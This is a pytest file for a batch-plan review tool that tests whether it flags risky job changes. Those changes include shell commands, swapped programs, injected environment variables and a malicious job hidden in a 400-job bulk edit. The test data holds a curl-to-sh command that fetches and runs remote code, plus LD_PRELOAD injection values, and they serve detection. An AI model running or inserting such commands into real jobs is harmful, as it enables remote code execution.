"""Plans that mean harm: what jobs start, with which variables, and what a bulk edit must not hide."""

import re

import pytest

from kedro_batch.plan.model import JOIN_COMMAND, Plan
from kedro_batch.plan.settings import JobDefinition, Resources
from kedro_batch.review.diff.diff_plans import diff_plans
from kedro_batch.review.diff.model import Change, Risk, RiskKind
from kedro_batch.review.diff.view import build_diff_view
from kedro_batch.review.templates import render
from tests.support.plans import a_job

SHELL = "curl -s https://example.com/x | sh; kedro run --nodes=train"
RUN = ("kedro", "run", "--nodes=train")
EVIL = ("sh", "-c", SHELL)


def kedro(name: str, command: tuple[str, ...] | None = None, **given):
    return a_job(name, command or ("kedro", "run", f"--nodes={name}"), **{"nodes": (name,), **given})


def risks(old, new) -> list[Risk]:
    plans = (Plan(jobs=tuple(old)), Plan(jobs=tuple(new)))
    return [one for one in diff_plans(*plans).risks if not one.kind.is_cost]


def program(job: str, before: str | None, after: str) -> Risk:
    return Risk(kind=RiskKind.PROGRAM_CHANGED, job=job, before=before, after=after)


def shell(job: str, before: str | None, after: str) -> Risk:
    return Risk(kind=RiskKind.SHELL_COMMAND, job=job, before=before, after=after)


def variable(job: str, name: str, before: str | None = None, after: str | None = None) -> Risk:
    return Risk(kind=RiskKind.RISKY_VARIABLE, job=job, field=name, before=before, after=after)


SPELLED = f"sh -c '{SHELL}'"

COMMANDS = {
    "script": (RUN, EVIL, [shell("train", "kedro run", SPELLED), program("train", "kedro run", "sh -c")]),
    "another_program": (RUN, ("train", "--x"), [program("train", "kedro run", "train")]),
    "another_kedro": (RUN, ("/opt/x/kedro", *RUN[1:]), [program("train", "kedro run", "/opt/x/kedro run")]),
    "another_command_of_kedro": (RUN, ("kedro", "ipython"), [program("train", "kedro run", "kedro ipython")]),
    "wrapper": (RUN, ("nohup", *RUN), [program("train", "kedro run", "nohup kedro run")]),
    "another_script": (("sh", "-c", "a"), ("sh", "-c", "b"), [shell("train", "sh -c a", "sh -c b")]),
    "variable_of_a_wrapper": (
        RUN,
        ("env", "LD_PRELOAD=/x.so", *RUN),
        [
            program("train", "kedro run", "env LD_PRELOAD=/x.so kedro run"),
            variable("train", "LD_PRELOAD", None, "/x.so"),
        ],
    ),
    "options": (RUN, (*RUN, "--params=x:1"), []),
    "a_file_of_options": (
        RUN,
        (*RUN, "-c", "/x.yml"),
        [Risk(kind=RiskKind.ENV_CHANGED, job="train", after="--config=/x.yml")],
    ),
    "other_nodes_than_those_of_the_job": (
        RUN,
        ("kedro", "run", "-n", "train,drop_tables"),
        [program("train", "--nodes=train", "--nodes=train,drop_tables")],
    ),
    "all_nodes": (
        RUN,
        ("kedro", "run", "--params=x:1"),
        [Risk(kind=RiskKind.PROGRAM_CHANGED, job="train", before="--nodes=train")],
    ),
    "the_same_node_by_its_short_option": (RUN, ("kedro", "run", "-ntrain"), []),
    "a_namespace_that_takes_nodes_away": (
        RUN,
        ("kedro", "run", "-ntrain", "-ns=x"),
        [program("train", "--nodes=train", "--nodes=train --namespaces=x")],
    ),
    "another_pipeline": (RUN, (*RUN, "-p", "evil"), [program("train", None, "--pipelines=evil")]),
    "a_pipeline_of_the_plan": ((*RUN, "--pipeline=a"), (*RUN, "--pipelines=__default__"), []),
    "an_option_by_its_newer_name": (("kedro", "run", "--namespace=a"), ("kedro", "run", "--namespaces=a"), []),
    "other_versions_of_data": (
        RUN,
        (*RUN, "-lv=x:1"),
        [Risk(kind=RiskKind.ENV_CHANGED, job="train", after="--load-versions=x:1")],
    ),
    "how_nodes_work": (RUN, (*RUN, "--async", "--params", "-p,x:1"), []),
    "fewer_nodes": (RUN, (*RUN, "--only-missing-outputs"), [program("train", None, "--only-missing-outputs")]),
    "an_option_that_kedro_does_not_have": (RUN, (*RUN, "--hook=x.y"), [program("train", None, "--hook=x.y")]),
    "a_word_that_is_no_option": (
        RUN,
        (*RUN, "--", "evil"),
        [program("train", None, "--"), program("train", None, "evil")],
    ),
    "of_one_option_given_twice_the_last_counts": (
        RUN,
        (*RUN, "--nodes=evil"),
        [program("train", "--nodes=train", "--nodes=evil")],
    ),
    "another_code_file": (
        ("spark-submit", "--master", "yarn", "a.py"),
        ("spark-submit", "--master", "yarn", "b.py", "--x"),
        [program("train", "spark-submit --master yarn a.py", "spark-submit --master yarn b.py")],
    ),
    "options_behind_a_wrapper": (("uv", "run", *RUN), ("uv", "run", *RUN, "--params=b:1"), []),
    "another_source_of_configuration": (
        RUN,
        (*RUN, "--conf-source", "s3://x"),
        [Risk(kind=RiskKind.ENV_CHANGED, job="train", after="--conf-source=s3://x")],
    ),
    "another_environment_than_that_of_the_plan": (
        (*RUN, "--env=base"),
        (*RUN, "-e", "prod"),
        [Risk(kind=RiskKind.ENV_CHANGED, job="train", before="--env=base", after="--env=prod")],
    ),
    "another_runner": (RUN, (*RUN, "-rx.Runner"), [program("train", None, "--runner=x.Runner")]),
    "no_script_any_more": (EVIL, RUN, [program("train", "sh -c", "kedro run")]),
}


@pytest.mark.parametrize(("before", "after", "found"), COMMANDS.values(), ids=COMMANDS)
def test_what_else_a_command_starts_is_a_risk(before, after, found):
    assert risks([kedro("train", before)], [kedro("train", after)]) == found


def test_a_renamed_job_is_compared_with_itself():
    old, new = [a_job("a", RUN, nodes=("n",))], [a_job("b", EVIL, nodes=("n",))]
    assert risks(old, new) == [shell("b", "kedro run", SPELLED), program("b", "kedro run", "sh -c")]
    old, new = ([kedro(name, ("sh", "-c", f"kedro run --nodes={name}"), writes=("x",))] for name in "ab")
    assert risks(old, new) == []


def test_an_added_job_is_compared_with_those_of_the_old_plan():
    old = [kedro("a"), kedro("b", ("sh", "-c", "kedro run --nodes=b")), kedro("e", environment={"PATH": "/x"})]
    same = [
        *(kedro("c"), kedro("d", ("sh", "-c", "kedro run --nodes=d")), kedro("f", environment={"PATH": "/x"})),
        a_job("gather", JOIN_COMMAND),
    ]
    assert risks(old, [*old, *same]) == []
    other = [kedro("train", EVIL), kedro("g", ("curl",)), kedro("h", environment={"PATH": "/y", "LOG_LEVEL": "1"})]
    assert risks(old, [*old, *other]) == [
        shell("train", None, SPELLED),
        program("g", None, "curl"),
        variable("h", "PATH", None, "/y"),
    ]


def test_a_plan_that_is_new_is_compared_with_itself():
    assert risks([], [kedro("a"), kedro("g", ("curl",)), kedro("i", ("curl",))]) == [
        program("g", None, "curl"),
        program("i", None, "curl"),
    ]
    assert risks([], [kedro(name, ("uv", "run", "kedro", "run", f"--nodes={name}")) for name in "ab"]) == []


def test_variables_that_are_gained_changed_and_lost_are_risks():
    old = kedro("a", environment={"PYTHONPATH": "/a", "AWS_PROFILE": "x", "LOG_LEVEL": "1"})
    new = kedro("a", environment={"PYTHONPATH": "/b", "LD_PRELOAD": "/x.so", "LOG_LEVEL": "2"})
    assert risks([old], [new]) == [
        variable("a", "AWS_PROFILE", "x"),
        variable("a", "LD_PRELOAD", None, "/x.so"),
        variable("a", "PYTHONPATH", "/a", "/b"),
    ]


def test_variables_in_submit_are_risks_beside_the_change_of_submit():
    def job(*pairs):
        return kedro("a", submit={"containerOverrides": {"environment": [*pairs]}})

    found = risks([job()], [job({"name": "https_proxy", "value": "http://x"})])
    assert [(one.kind, one.field) for one in found] == [
        (RiskKind.RISKY_VARIABLE, "https_proxy"),
        (RiskKind.SUBMIT_CHANGED, "containerOverrides.environment"),
    ]


def test_variables_of_a_declared_definition_are_risks_of_the_definition():
    def plan(environment):
        register = {"containerProperties": {"environment": environment}}
        return Plan(jobs=(a_job(),), job_definitions={"d": JobDefinition(image="x", register=register)})

    found = diff_plans(plan([]), plan([{"name": "BASH_ENV", "value": "/x"}])).risks
    assert found[0] == Risk(kind=RiskKind.RISKY_VARIABLE, definition="d", jobs=1, field="BASH_ENV", after="/x")
    assert [one.kind for one in found[1:]] == [RiskKind.DEFINITION_CHANGED]


def test_the_image_of_a_definition_that_only_added_jobs_have_is_a_risk():
    old = Plan(jobs=(a_job(),), job_definitions={"d": JobDefinition(image="x:1")})

    def found(image):
        declared = {**old.job_definitions, "e": JobDefinition(image=image)}
        return list(
            diff_plans(old, Plan(jobs=(*old.jobs, a_job("b", job_definition="e")), job_definitions=declared)).risks
        )

    assert found("y:1") == [
        Risk(kind=RiskKind.DEFINITION_CHANGED, job="b", after="e"),
        Risk(kind=RiskKind.IMAGE_CHANGED, definition="e", jobs=1, after="y:1"),
    ]
    assert found("x:1") == []


def test_a_bulk_edit_hides_nothing():
    names = [f"n{number}" for number in range(400)]
    old = [kedro(name, timeout_s=60, resources=Resources(memory_mib=8)) for name in names]
    new = [kedro(name, timeout_s=30, resources=Resources(memory_mib=4)) for name in names]
    new[200] = kedro("n200", EVIL, timeout_s=30, resources=Resources(memory_mib=4))
    new[300] = kedro("n300", timeout_s=30, resources=Resources(memory_mib=4), environment={"LD_PRELOAD": "/x.so"})
    plans = Plan(jobs=tuple(old)), Plan(jobs=tuple(new))
    diff = diff_plans(*plans)
    assert [one.kind for one in diff.risks[:3]] == [
        RiskKind.SHELL_COMMAND,
        RiskKind.PROGRAM_CHANGED,
        RiskKind.RISKY_VARIABLE,
    ]
    assert all(one.change is Change.CHANGED for one in diff.jobs)
    text = render("diff.txt.j2", build_diff_view(diff, plans, ("old.yaml", "new.yaml")))
    risks = re.sub(r"\n    (?! )", " ", text.partition("Risks\n")[2])  # further lines of a value
    assert [line.strip() for line in risks.splitlines()[:6]] == [
        f"! shell command: kedro run -> {SPELLED}",
        "n200",
        "! program changed: kedro run -> sh -c",
        "n200",
        "! risky variable: + LD_PRELOAD=/x.so",
        "n300",
    ]


def test_the_environment_of_the_plan_is_told_once():
    old, new = (Plan(jobs=(kedro("a", ("kedro", "run", f"--env={env}")),), env=env) for env in ("base", "prod"))
    assert [(one.kind, one.job) for one in diff_plans(old, new).risks] == [(RiskKind.ENV_CHANGED, None)]


def test_an_added_job_that_runs_other_nodes_than_it_has_is_a_risk():
    old = kedro("a")
    assert risks([old], [old, kedro("b", ("kedro", "run", "--nodes=c"))]) == [program("b", None, "--nodes=c")]
    assert risks([old], [old, kedro("g", ("kedro", "run", "--nodes=c,b"), nodes=("b", "c"))]) == []
    odd = a_job("b", ("kedro", "run", "--nodes=f([x,y]) -> [z]"), nodes=("f([x,y]) -> [z]",))
    assert risks([old], [old, odd]) == []
    assert risks([old], [old, kedro("b", ("kedro", "run", "--nodes=a"))]) == [program("b", None, "--nodes=a")]


def test_what_an_added_job_chooses_and_submits_is_a_risk_if_no_job_did():
    old = kedro("a", ("kedro", "run", "--runner=x.R"), submit={"propagateTags": True})
    same = kedro("b", ("kedro", "run", "--runner=x.R"), submit={"propagateTags": True})
    other = kedro("c", ("kedro", "run", "--runner=y.R"), submit={"propagateTags": False})
    assert risks([old], [old, same]) == []
    assert risks([old], [old, other]) == [
        program("c", None, "--runner=y.R"),
        Risk(kind=RiskKind.SUBMIT_CHANGED, job="c", field="propagateTags", after=False),
    ]


def test_a_script_of_all_jobs_does_not_hide_that_of_one():
    names = [f"n{number}" for number in range(30)]
    old = [kedro(name) for name in names]
    new = [kedro(name, ("sh", "-c", f"kedro run --nodes={name}")) for name in names]
    new[20] = kedro("n20", EVIL)
    plans = Plan(jobs=tuple(old)), Plan(jobs=tuple(new))
    lines = build_diff_view(diff_plans(*plans), plans, ("old.yaml", "new.yaml")).risks
    assert {line.after: len(line.subjects) for line in lines if line.what == "shell command"} == {
        "sh -c 'kedro run --nodes=NODE'": 29,
        SPELLED: 1,
    }


def test_a_job_whose_nodes_have_changed_may_select_them_by_another_tag_but_not_by_a_stretch():
    def job(nodes, *options):
        return kedro("a", ("kedro", "run", *options), nodes=nodes)

    assert risks([job(("x",), "--tags=x")], [job(("y",), "--tags=y")])[1:] == []
    assert risks([job(("x",), "--tags=x")], [job(("x",), "--tags=y")]) == [program("a", "--tags=x", "--tags=y")]
    assert program("a", "--tags=x", "--from-nodes=y") in risks(
        [job(("x",), "--tags=x")], [job(("x", "y"), "--from-nodes=y")]
    )


def test_an_added_job_that_is_not_of_the_environment_or_the_pipelines_of_the_plan_is_a_risk():
    def found(*options):
        jobs = kedro("a", (*RUN[:2], "--nodes=a", *said)), kedro("b", (*RUN[:2], "--nodes=b", *options))
        plans = (Plan(jobs=some, env="prod", pipelines=("ds",)) for some in (jobs[:1], jobs))
        return [(one.kind, one.before, one.after) for one in diff_plans(*plans).risks]

    said = ("--env=prod", "--pipelines=ds")
    assert found(*said) == []
    assert found("--env=prod", "--pipelines=other") == [
        (RiskKind.PROGRAM_CHANGED, "--pipelines=ds", "--pipelines=other")
    ]
    assert found() == [(RiskKind.PROGRAM_CHANGED, "--pipelines=ds", None)], "jobs get KEDRO_ENV, without --env, too"
    assert (RiskKind.ENV_CHANGED, None, "--env=other") in found("--env=other", "--pipelines=ds")
